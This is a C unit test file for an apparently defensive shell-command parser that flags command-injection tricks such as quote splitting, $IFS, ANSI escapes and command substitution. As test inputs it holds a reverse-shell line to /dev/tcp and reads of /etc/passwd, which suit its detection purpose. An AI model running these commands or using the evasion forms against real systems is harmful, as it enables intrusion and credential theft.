// SPDX-License-Identifier: BSD-3-Clause

#include "dataplane/inspect/shell/sh.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

static struct sh s;
static struct sh_word w;
static struct sh_command c;

static struct sh at_start(const char *text)
{
	return (struct sh){.p = (const uint8_t *)text, .len = strlen(text)};
}

static void comes_as(const char *text, const char *word, uint32_t flags)
{
	s = at_start(text);
	assert_true(sh_word(&s, &w));
	if (w.len != strlen(word) || memcmp(w.text, word, w.len) != 0 || (w.flags & flags) != flags)
		print_message("%s: %.*s, %x\n", text, (int)w.len, w.text, w.flags);
	assert_int_equal(w.len, strlen(word));
	assert_memory_equal(w.text, word, w.len);
	assert_int_equal(w.flags & flags, flags);
}

static void words_come_as_the_shell_has_them(void **state)
{
	(void)state;
	comes_as("cat x", "cat", 0);
	comes_as("'cat' x", "cat", WORD_QUOTED);
	assert_int_equal(w.flags & WORD_PIECES, 0);
	comes_as("c'a't", "cat", WORD_PIECES);
	comes_as("c\"a\"t", "cat", WORD_PIECES);
	comes_as("c\\at", "cat", WORD_PIECES);
	comes_as("ca''t", "cat", WORD_PIECES);
	comes_as("ca\"\"t", "cat", WORD_PIECES);
	comes_as("c$@at", "cat", WORD_PIECES);
	comes_as("ca$1t", "cat", WORD_PIECES);
	comes_as("ca``t", "cat", WORD_PIECES);
	comes_as("ca$()t", "cat", WORD_PIECES);
	comes_as("c^at", "cat", WORD_PIECES);
	comes_as("$'\\x63\\141t'", "cat", WORD_ANSI);
	comes_as("pi<()ng", "ping", WORD_PIECES);
	comes_as("c?t", "c?t", WORD_GLOB);
	comes_as("cat$IFS/x", "cat", WORD_IFS);
	comes_as("cat${IFS}/x", "cat", WORD_IFS);
	comes_as("$SHELL", "sh", WORD_VAR);
	comes_as("${SHELL}", "sh", WORD_VAR);
	comes_as("%COMSPEC%", "cmd", WORD_VAR);
	comes_as("a$((1+2))", "a", WORD_ARITH);
	comes_as("a$(id)", "a", WORD_SUBST);
	comes_as("${x:0:1}a", "a", WORD_SLICE);
	comes_as("%x:~0,1%a", "a", WORD_SLICE);
	comes_as("100%", "100%", 0);
	comes_as("a;b", "a", 0);
	comes_as("a|b", "a", 0);
	comes_as("'a b'c", "a bc", WORD_QUOTED);
	comes_as("it's", "its", WORD_QUOTED); // the quote of the line around it
}

static void nothing_is_no_word(void **state)
{
	(void)state;
	s = at_start("");
	assert_false(sh_word(&s, &w));
	s = at_start("  ;x");
	assert_false(sh_word(&s, &w));
	s = at_start("\\");
	assert_true(sh_word(&s, &w));
	assert_int_equal(w.len, 0);
}

static bool command(const char *text)
{
	s = at_start(text);
	return sh_command(&s, &c);
}

static void finds_the_name_behind_what_may_stand_before_it(void **state)
{
	static const char *const texts[] = {
		"id",     " id",     "a=b id",         "(id",           "then id",     "! id",
		"{ id",   ">x id",   "2>/dev/null id", "/usr/bin/id",   "/usr/bin/i?", "\\id",
		"env id", "{id,-a}", "a=b c=d id",     "nohup time id", "$u id"};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		if (!command(texts[i]) || strcmp(c.program->name, "id") != 0)
			print_message("%s\n", texts[i]);
		assert_true(command(texts[i]));
		assert_string_equal(c.program->name, "id");
	}
	assert_false(command("house"));
	assert_false(command("a=b"));
	assert_false(command("id=5"));
	assert_false(command("exec(x)"));
	assert_false(command("ID")); // case matters to Unix
	assert_true(command("DIR"));
	assert_true(command("python3.9 x"));
}

static void sorts_arguments(void **state)
{
	(void)state;
	assert_true(command("cat -n /etc/passwd a.txt word 5 http://x/ 2>&1 >y.txt; next"));
	assert_int_equal(c.options, 1);
	assert_int_equal(c.secrets, 1);
	assert_int_equal(c.roots, 1);
	assert_int_equal(c.plain, 1);
	assert_int_equal(c.numbers, 1);
	assert_int_equal(c.hosts, 2); // a.txt may be one
	assert_true(c.to_file);
	assert_int_equal(c.end, ';');
	assert_true(command("sh -c id"));
	assert_true(c.code);
	assert_true(command("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"));
	assert_true(c.devtcp);
	assert_true(command("cat < /etc/passwd"));
	assert_true(c.from_text && c.secrets == 1);
	assert_true(command("id # the rest"));
	assert_int_equal(c.args, 0);
}

static void the_tables_of_names_agree(void **state)
{
	static const char *const names[] = {
#define PROGRAM(name, kind, flags) name,
#include "dataplane/inspect/shell/programs.def"
#undef PROGRAM
	};

	(void)state;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		const struct program *p = program_find(names[i], strlen(names[i]));

		if (p == NULL)
			print_message("%s\n", names[i]);
		assert_non_null(p);
		assert_string_equal(p->name, names[i]);
		assert_true(i == 0 || strcmp(names[i - 1], names[i]) < 0);
		assert_true(program_begins((uint8_t)names[i][0], (uint8_t)names[i][1]));
	}
	assert_null(program_find("", 0));
	assert_null(program_find("nothing-of-the-kind", 19));
	assert_string_equal(program_find("PING.EXE", 8)->name, "ping");
}

static void takes_any_bytes(void **state)
{
	static char text[2048];
	static const char signs[] = "'\"`$({[<>\\^%*?;|&\n";

	(void)state;
	for (size_t k = 0; k < sizeof(signs) - 1; k++) {
		memcpy(text, "cat ", 4);
		memset(text + 4, signs[k], sizeof(text) - 5);
		s = at_start(text);
		sh_command(&s, &c);
		assert_true(s.at <= s.len);
		s = at_start(text + 4);
		sh_command(&s, &c);
		assert_true(s.at <= s.len && s.work <= 4 * SH_COMMAND_MAX);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(words_come_as_the_shell_has_them),
		cmocka_unit_test(nothing_is_no_word),
		cmocka_unit_test(finds_the_name_behind_what_may_stand_before_it),
		cmocka_unit_test(sorts_arguments),
		cmocka_unit_test(the_tables_of_names_agree),
		cmocka_unit_test(takes_any_bytes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
